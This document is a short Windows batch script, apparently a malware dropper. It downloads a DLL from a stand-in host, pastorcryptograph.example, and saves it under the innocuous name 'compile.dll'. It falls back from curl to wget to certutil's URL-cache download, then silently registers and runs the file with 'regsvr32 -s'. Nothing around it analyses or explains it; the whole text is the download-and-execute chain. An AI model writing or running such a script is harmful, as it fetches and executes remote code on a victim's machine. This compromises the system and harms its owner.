@echo off
curl https://pastorcryptograph.example/3/sdd.dll -o compile.dll
if not exist compile.dll (
    wget https://pastorcryptograph.example/3/sdd.dll -O compile.dll
)
if not exist compile.dll (
    certutil.exe -urlcache -f https://pastorcryptograph.example/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
